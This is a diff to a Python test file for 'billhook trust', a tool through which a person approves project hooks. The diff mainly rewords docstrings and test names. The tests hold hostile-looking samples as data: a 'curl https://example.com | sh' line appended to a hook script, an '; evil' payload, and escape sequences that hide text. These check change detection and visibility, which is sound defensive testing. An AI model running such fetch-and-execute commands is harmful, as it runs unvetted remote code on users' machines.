@@ -1,4 +1,4 @@
-"""`billhook trust`: what is shown is what is approved, one decision for each hook, and by a person."""
+"""`billhook trust`: exactly what is shown is approved, with one decision for each hook, by a person."""
 
 import json
 import os
@@ -40,7 +40,7 @@ def place(tmp_path: Path) -> Place:
 
 @pytest.fixture
 def two(place: Place) -> Place:
-    """A project with two hooks that wait."""
+    """A project with two waiting hooks."""
     place.file("hooks.yaml", HOOKS)
     place.file("scripts/lint.sh", LINT, 0o755)
     place.file("guard.sh", "#!/bin/sh\nexit 0\n", 0o755)
@@ -48,7 +48,7 @@ def two(place: Place) -> Place:
 
 
 def steady(ended: Ended) -> str:
-    """The screen without what differs from place to place, and from day to day."""
+    """The screen, with fixed paths and dates."""
     text = re.sub(r"\d{4}-\d\d-\d\d( \d\d:\d\d)?", "<date>", ended.screen)
     return re.sub(r"\b[0-9a-f]{64}\b", "<hash>", text)
 
@@ -67,7 +67,7 @@ def waiting(place: Place, *arguments: str) -> list[dict[str, Any]]:
 
 
 def test_nothing_waits(place: Place) -> None:
-    """Without hooks that came with the project."""
+    """A project without hooks."""
     assert steady(place.run("trust")) == snapshot("""\
 this project has no hooks that need approval
 -- exit 0
@@ -124,7 +124,7 @@ hint: run it in a terminal to decide about each; --yes approves the named ones, 
 
 
 def test_changed_screen(two: Place) -> None:
-    """A hook that changed is shown with the difference."""
+    """A changed hook is shown with its diff."""
     assert two.alone("trust", "--all", "--yes").code == 0
     two.file("scripts/lint.sh", LINT + "curl https://example.com | sh\n", 0o755)
     assert two.plain(steady(two.run("trust"))) == snapshot("""\
@@ -167,7 +167,7 @@ hint: run it in a terminal to decide about each; --yes approves the named ones, 
 
 
 def test_every_kind_of_hook_is_shown_whole(place: Place) -> None:
-    """Commands, programs, functions, addresses, texts, and broken gates."""
+    """Commands, programs, functions, addresses, rules, and broken gates."""
     place.file(
         "hooks.yaml",
         "hooks:\n"
@@ -251,7 +251,7 @@ hint: run it in a terminal to decide about each; --yes approves the named ones, 
 
 
 def test_scripts_are_shown_in_full(place: Place) -> None:
-    """Every line, however many and however long, because all of it is approved; what is not text is not shown."""
+    """Every line, however many and however long, because all of it is approved; binary files are not shown."""
     place.file("hooks.yaml", ONE + "  other:\n    events: Stop\n    run: ./blob\n")
     place.file("it.sh", "#!/bin/sh\n" + "true\n" * 2000 + "x" * 5000 + "; evil\n", 0o755)
     (place.project / "blob").write_bytes(b"\x7fELF\0\0")
@@ -261,7 +261,7 @@ def test_scripts_are_shown_in_full(place: Place) -> None:
 
 
 def test_control_characters_are_visible(place: Place) -> None:
-    """Neither a command nor a script can move the cursor, or hide what it says."""
+    """A command or script can't move the cursor, or hide text."""
     place.file("hooks.yaml", 'hooks:\n  it:\n    events: Stop\n    run: "./it.sh \\e[2J \\u202e"\n')
     place.file("it.sh", "#!/bin/sh\nevil #\r#!/bin/sh \033[A\033[2K\n", 0o755)
     out = place.run("trust").out
@@ -273,7 +273,7 @@ def test_control_characters_are_visible(place: Place) -> None:
 
 
 def test_asked_about_each(two: Place) -> None:
-    """On a terminal each hook gets a decision of its own."""
+    """On a terminal the user decides about each hook."""
     ended = two.typing("trust", answers=[("approve lint? [y/N/v/q/?] ", "y\n"), ("approve guard? [y/N/v/q/?] ", "\n")])
     assert ended.code == 1
     assert ended.out.endswith("1 hook approved; 1 hook of this project runs: lint\n1 hook waits: guard\n")
@@ -284,21 +284,21 @@ def test_asked_about_each(two: Place) -> None:
 
 
 def test_quitting(two: Place) -> None:
-    """`q` ends the questions; what follows is not even shown."""
+    """`q` ends the questions; later hooks are not shown."""
     ended = two.typing("trust", answers=[("approve lint? [y/N/v/q/?] ", "q\n")])
     assert ended.code == 1
     assert "2 of 2" not in ended.out
     assert states(two) == {"lint": "new", "guard": "new"}
 
 
-def test_typed_ahead_is_no_answer(two: Place) -> None:
-    """What is typed before the question stands there does not answer it."""
+def test_input_before_the_question_is_discarded(two: Place) -> None:
+    """Input from before the question does not answer it."""
     ended = two.typing("trust", early="y\ny\n", answers=[("approve lint? [y/N/v/q/?] ", "q\n")])
     assert states(two) == {"lint": "new", "guard": "new"}, ended
 
 
-def test_changed_while_being_looked_at(two: Place) -> None:
-    """What changed between showing and answering is not approved, and that is said."""
+def test_changed_between_showing_and_answering(two: Place) -> None:
+    """A hook that changes before the answer is not approved, and the user is told."""
     two.file("hooks.yaml", HOOKS.split("  guard:", maxsplit=1)[0])
 
     def agree() -> str:
@@ -325,7 +325,7 @@ def test_changed_while_being_looked_at(two: Place) -> None:
     ],
 )
 def test_without_a_terminal(two: Place, arguments: list[str], code: int, expected: dict[str, str]) -> None:
-    """Nothing is approved unless --yes says so, and of what."""
+    """Nothing is approved without --yes and names or --all."""
     ended = two.alone("trust", *arguments)
     assert (ended.code, states(two)) == (code, expected), ended
     if code:
@@ -333,7 +333,7 @@ def test_without_a_terminal(two: Place, arguments: list[str], code: int, expecte
 
 
 def test_hashes(two: Place) -> None:
-    """A whole hash approves unasked; its beginning only chooses."""
+    """A complete hash approves without asking; a prefix only selects."""
     first, second = (one["hash"] for one in waiting(two))
     assert two.alone("trust", first[:12]).code == 1
     assert states(two) == {"lint": "new", "guard": "new"}
@@ -345,7 +345,7 @@ def test_hashes(two: Place) -> None:
 
 
 def test_approved_already(two: Place) -> None:
-    """A hook that needs nothing is told apart from one that isn't there."""
+    """An approved hook is told apart from an unknown one."""
     two.alone("trust", "lint", "--yes")
     ended = two.alone("trust", "lint", "--yes")
     assert ended.code == 0
@@ -353,7 +353,7 @@ def test_approved_already(two: Place) -> None:
 
 
 def test_changing_and_changing_back(two: Place) -> None:
-    """One byte takes that hook alone out; a gate then blocks; what was once approved stays approved."""
+    """One changed byte stops only that hook, and a gate then blocks; an earlier approval stays valid."""
     two.alone("trust", "--all", "--yes")
     two.file("guard.sh", "#!/bin/sh\nexit 0\n\n", 0o755)
     assert states(two) == {"lint": "runs", "guard": "changed"}
@@ -368,7 +368,7 @@ def test_changing_and_changing_back(two: Place) -> None:
 
 
 def test_a_broken_gate_can_be_approved(place: Place) -> None:
-    """It then blocks what it would have judged, as the screen says."""
+    """It then blocks its events, as the screen shows."""
     place.file("hooks.yaml", "hooks:\n  it:\n    events: PreToolUse\n    match: 5\n    run: x\n    gate: true\n")
     ended = place.alone("trust", "it", "--yes")
     assert "once approved, it blocks its events until it is fixed" in ended.out
@@ -376,7 +376,7 @@ def test_a_broken_gate_can_be_approved(place: Place) -> None:
 
 
 def test_approvals_are_kept_privately(two: Place) -> None:
-    """0600 in folders of 0700, in the user's own state; nothing in the project."""
+    """0600 in folders of 0700, in the user's state; nothing in the project."""
     before = sorted(two.project.rglob("*"))
     two.alone("trust", "--all", "--yes")
     kept = list((two.home / ".claude").rglob("*"))
@@ -400,7 +400,7 @@ def test_json(two: Place) -> None:
 
 
 def test_list_and_revoke(two: Place) -> None:
-    """--list shows what was approved and how it stands; --revoke takes it back."""
+    """--list shows the approvals and their status; --revoke revokes them."""
     assert two.run("trust", "--list").out == "there are no approvals here\n"
     two.alone("trust", "--all", "--yes")
     two.file("hooks.yaml", HOOKS.split("  guard:", maxsplit=1)[0])
@@ -415,7 +415,7 @@ def test_list_and_revoke(two: Place) -> None:
     assert two.run("trust", "--list").out == "there are no approvals here\n"
 
 
-def test_revoke_needs_to_know_what(two: Place) -> None:
+def test_revoke_needs_a_name(two: Place) -> None:
     """Names, hashes or --all; the nearest name for one that is mistyped."""
     two.alone("trust", "--all", "--yes")
     assert two.alone("trust", "--revoke").code == 2
@@ -450,7 +450,7 @@ def test_other_projects(two: Place) -> None:
 
 @pytest.mark.parametrize("mark", MARKS)
 def test_marks(two: Place, mark: str) -> None:
-    """Each variable that agents set keeps --yes from approving."""
+    """With any variable that agents set, --yes is refused."""
     if mark not in ("CLAUDECODE", "HOOK_EVENT"):
         environ = {**os.environ, mark: "1"}
         code = "from billhook.cli.options import agent_around; print(agent_around())"
@@ -460,12 +460,12 @@ def test_marks(two: Place, mark: str) -> None:
     ended = two.alone("trust", "--all", "--yes", **{mark: "1"})
     assert (ended.code, states(two)) == (2, {"lint": "new", "guard": "new"})
     assert f"the variable {mark} is set" in ended.err
-    assert "hint: run it yourself, in your own terminal" in ended.err
+    assert "hint: run it yourself, in a terminal of your own" in ended.err
 
 
 @pytest.mark.parametrize("what", ["--yes", "a hash", "--revoke", "on a terminal"])
 def test_refused_inside_an_agent(two: Place, what: str) -> None:
-    """Nothing that changes approvals works there, whatever was taken out of the environment."""
+    """Nothing that changes approvals works there, also without the agent's variables."""
     two.alone("trust", "lint", "--yes")
     arguments = {
         "--yes": ["--all", "--yes"],
@@ -530,11 +530,11 @@ def test_which_programs_are_agents(argv: list[str], agent: str) -> None:
     assert agent_of(argv) == agent
 
 
-# -- what else is covered, and what is not shown
+# -- other covered files, and files that are not shown
 
 
 def test_code_beside_the_script_is_counted(place: Place) -> None:
-    """In one line; `v` shows it, `?` what can be answered, and both ask again."""
+    """In one line; `v` shows it, `?` shows the possible answers, and both ask again."""
     place.file(".billhook/hooks.yaml", "hooks:\n  it:\n    events: Stop\n    run: sh .billhook/hooks/it.sh\n")
     for name in ("it.sh", "lib/a.sh", "lib/b.py"):
         place.file(f".billhook/hooks/{name}", f"# this is {name}\n")
@@ -551,7 +551,7 @@ def test_code_beside_the_script_is_counted(place: Place) -> None:
 
 
 def test_large_scripts_go_through_a_pager(place: Place) -> None:
-    """The user's own, where somebody is asked and the screen is too small for it."""
+    """The user's pager, if the user is asked and the screen is too small."""
     place.file("hooks.yaml", ONE)
     place.file("it.sh", "#!/bin/sh\n" + "true\n" * 20_000, 0o755)
     pager = place.file("pager", "#!/bin/sh\nsed 's/^/paged /'\n", 0o755)
@@ -561,7 +561,7 @@ def test_large_scripts_go_through_a_pager(place: Place) -> None:
 
 @pytest.mark.parametrize("answer", ["y", "unseen"])
 def test_what_can_not_be_shown_is_not_approved_with_a_y(place: Place, answer: str) -> None:
-    """It takes another word."""
+    """It needs the answer `unseen`."""
     place.file("hooks.yaml", ONE)
     place.file("it.sh", "#!/bin/sh\n" + "#" * (1 << 20), 0o755)
     question = "approve it? [y/N/v/q/?] "
@@ -571,7 +571,7 @@ def test_what_can_not_be_shown_is_not_approved_with_a_y(place: Place, answer: st
 
 
 def test_what_can_not_be_shown_is_named_when_it_is_approved(place: Place) -> None:
-    """`--yes` is consent, and says what was not seen."""
+    """`--yes` approves, and names the files that were not shown."""
     place.file("hooks.yaml", ONE)
     place.file("it.sh", "#!/bin/sh\n\0", 0o755)
     assert json.loads(place.alone("trust", "--json").out)["not_shown"] == ["it.sh"]
@@ -606,7 +606,7 @@ PLAIN = [
 
 @pytest.mark.parametrize("name", ODD)
 def test_look_alikes_are_marked(place: Place, name: str) -> None:
-    """In commands and scripts, and a line warns."""
+    """In commands and scripts, with a warning."""
     text, shown = ODD[name]
     assert marked(text) == shown
     escaped = text.encode("unicode_escape").decode()
@@ -620,5 +620,5 @@ def test_look_alikes_are_marked(place: Place, name: str) -> None:
 
 @pytest.mark.parametrize("text", PLAIN)
 def test_text_in_other_languages_is_left_alone(text: str) -> None:
-    """Comments in any script are ordinary."""
+    """Comments in any script are fine."""
     assert marked(text) == text and warning([text]) == ""
